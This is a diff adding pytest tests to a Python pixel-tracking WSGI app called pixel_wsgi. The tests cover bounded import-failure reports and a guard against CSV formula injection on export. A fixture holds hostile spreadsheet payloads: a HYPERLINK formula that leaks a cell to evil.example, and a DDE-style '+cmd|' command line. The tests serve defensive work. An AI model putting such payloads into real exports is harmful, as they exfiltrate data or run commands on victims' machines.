@@ -14,14 +14,21 @@ import time
 import tracemalloc
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
 from click.testing import CliRunner
 from webtest import TestApp, TestRequest, TestResponse
 
 from pixel_wsgi import PixelMiddleware, SQLiteStorage
+from pixel_wsgi.bulk import (
+    MAX_LISTED_FAILURES,
+    MAX_MESSAGE_LENGTH,
+    MAX_SHOWN_CELL_LENGTH,
+    MAX_SHOWN_CELLS,
+)
 from pixel_wsgi.cli import _lines_with_progress, cli
-from pixel_wsgi.columns import COLUMNS
+from pixel_wsgi.columns import COLUMNS, formula_safe, formula_unsafe
 from pixel_wsgi.models import Transaction
 
 from .cli_helpers import Run, cli_runner
@@ -775,3 +782,158 @@ def test_a_body_shorter_than_its_content_length_is_a_json_400(
     assert status == "400 Bad Request", content
     assert headers["Content-Type"] == "application/json"
     assert json.loads(content)["error"]["code"]
+
+
+# -- bounded reports (issue 9) -----------------------------------------------------------
+
+
+def test_a_file_of_wide_failing_rows_gets_a_bounded_report(
+    app: TestApp, auth: dict[str, str], world: World
+) -> None:
+    # Issue 9: 300 failing rows of 2,000 columns answered 11 MB of report.
+    columns, failing = 1000, MAX_LISTED_FAILURES + 10
+    header = ",".join(["reference_id", *(f"extra_column_{i:04d}" for i in range(columns - 1))])
+    rows = [",".join([f"r{n}", *(["x" * 40] * (columns - 1))]) for n in range(failing)]
+    body = "\n".join([header, *rows]) + "\n"
+    response = upload(app, auth, body)
+    summary = response.json
+    assert (summary["rows"], summary["failed"]) == (failing, failing)
+    assert len(summary["failures"]) == MAX_LISTED_FAILURES
+    assert summary["failures_not_listed"] == failing - MAX_LISTED_FAILURES
+    first = summary["failures"][0]
+    assert first["code"] == "too_many_custom_fields"
+    assert len(first["content"]) == MAX_SHOWN_CELLS
+    assert first["cells_not_shown"] == columns - MAX_SHOWN_CELLS
+    assert first["content"]["reference_id"] == "r0"
+    # The file was 4.5 MB; the report is a small fraction of one (it was 9 MB).
+    assert len(response.body) < 300_000, len(response.body)
+
+
+def test_long_cells_and_messages_are_cut_in_a_report(
+    app: TestApp, auth: dict[str, str], world: World
+) -> None:
+    names = [f"c{i}" for i in range(60)]
+    header = ",".join(["reference_id", "sale_amount", *names])
+    row = ",".join(["r1", "1" * 5000, *(["\x01"] * len(names))])
+    summary = upload(app, auth, f"{header}\n{row}\n").json
+    [failure] = summary["failures"]
+    assert failure["content"]["sale_amount"] == "1" * (MAX_SHOWN_CELL_LENGTH - 3) + "..."
+    assert len(failure["message"]) == MAX_MESSAGE_LENGTH
+    assert failure["message"].endswith("...")
+
+
+@pytest.mark.parametrize("column", ["sku_list", "custom_data"])
+def test_a_deeply_nested_json_cell_is_a_failed_row_not_a_recursion_error(
+    app: TestApp, auth: dict[str, str], world: World, column: str
+) -> None:
+    cell = "[" * 100_000 + "]" * 100_000
+    summary = upload(app, auth, f"reference_id,{column}\nr1,{cell}\n").json
+    assert failures(summary) == [(2, "invalid_field", False)]
+
+
+# -- formula injection (issue 9) ---------------------------------------------------------
+
+FORMULAS = {
+    "reference_id": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
+    "reason_code": "+cmd|' /C calc'!A0",
+    "sku_list[]": "@SUM(1+1)",
+    "note": "-2+3",
+}
+
+
+@pytest.fixture
+def formula_ledger(app: TestApp, auth: dict[str, str], world: World) -> None:
+    """A visitor's pixel and a server report whose text a spreadsheet would run."""
+    app.get(f"/pixels/click/{world.percent_link_id}", status=302)
+    query = urlencode({**FORMULAS, "sale_amount": "10.00"})
+    assert app.get(pixel_url(world.advertiser_id, query)).status_int == 200
+    server = {
+        "reference_id": "'=already quoted",
+        "sale_amount": "5.00",
+        "advertiser_campaign_id": str(world.percent_campaign_id),
+        "affiliate_id": str(world.publisher_id),
+        "reason_code": "-refund",
+    }
+    assert app.post(CONVERSIONS, server, headers=auth).status_int == 201
+    assert len(list(world.storage.transactions())) == 2
+
+
+def test_exports_guard_cells_a_spreadsheet_would_run(
+    app: TestApp,
+    auth: dict[str, str],
+    world: World,
+    formula_ledger: None,
+    run: Run,
+    tmp_path: Path,
+) -> None:
+    exported = export(run, world.advertiser_id, tmp_path / "ledger.csv").read_bytes()
+    from_api = app.get("/pixels/api/transactions.csv", headers=auth).body
+    assert exported == from_api
+    pixel_row, server_row = csv.DictReader(io.StringIO(exported.decode("utf-8")))
+    assert pixel_row["reference_id"] == "'" + FORMULAS["reference_id"]
+    assert pixel_row["reason_code"] == "'" + FORMULAS["reason_code"]
+    assert pixel_row["sku_list"] == "'" + FORMULAS["sku_list[]"]
+    assert pixel_row["custom_data"] == '{"note":"-2+3"}'  # starts with "{": no formula
+    assert server_row["reference_id"] == "''=already quoted"
+    assert server_row["reason_code"] == "'-refund"
+    for row in (pixel_row, server_row):
+        for column, cell in row.items():
+            if column not in ("sale_amount", "payout"):
+                assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
+
+
+def test_a_guarded_export_imports_back_exactly(
+    app: TestApp,
+    auth: dict[str, str],
+    world: World,
+    formula_ledger: None,
+    run: Run,
+    tmp_path: Path,
+) -> None:
+    path = export(run, world.advertiser_id, tmp_path / "ledger.csv")
+    # Into the same store: every row is recognised as unchanged.
+    again = upload(app, auth, path.read_bytes()).json
+    assert (again["unchanged"], again["failed"], again["created"]) == (2, 0, 0)
+    # Into a fresh store: the values come back as they were, not with the guard.
+    fresh = SQLiteStorage(tmp_path / "fresh.db")
+    fresh.migrate()
+    make_world(fresh)
+    try:
+        result = cli_runner(f"sqlite:///{tmp_path / 'fresh.db'}")(
+            "import", str(path), "--advertiser", str(world.advertiser_id), "--json"
+        )
+        assert result.exit_code == 0, result.output
+        expected = current(list(world.storage.conversions(advertiser_id=world.advertiser_id)))
+        assert current(list(fresh.conversions())) == expected
+        assert set(expected) == {FORMULAS["reference_id"], "'=already quoted"}
+    finally:
+        fresh.close()
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        pytest.param("=1+1", "'=1+1", id="equals"),
+        pytest.param("+1", "'+1", id="plus"),
+        pytest.param("-1", "'-1", id="minus"),
+        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
+        pytest.param("\tx", "'\tx", id="tab"),
+        pytest.param("\rx", "'\rx", id="carriage-return"),
+        pytest.param("'=x", "''=x", id="already-quoted"),
+        pytest.param("'x", "'x", id="quote-before-text"),
+        pytest.param("plain", "plain", id="plain"),
+        pytest.param("", "", id="empty"),
+    ],
+)
+def test_the_formula_guard_is_undone_exactly(text: str, cell: str) -> None:
+    assert formula_safe(text) == cell
+    assert formula_unsafe(cell) == text
+
+
+def test_a_refused_row_keeps_its_reference_id_in_the_log(
+    app: TestApp, auth: dict[str, str], world: World
+) -> None:
+    upload(app, auth, 'reference_id,sale_amount\nr-7,"1,00"\n')
+    [rejection] = world.storage.rejections()
+    assert (rejection.reason, rejection.reference_id) == ("invalid_sale_amount", "r-7")
+    assert rejection.detail.startswith("row 2: sale_amount must be")
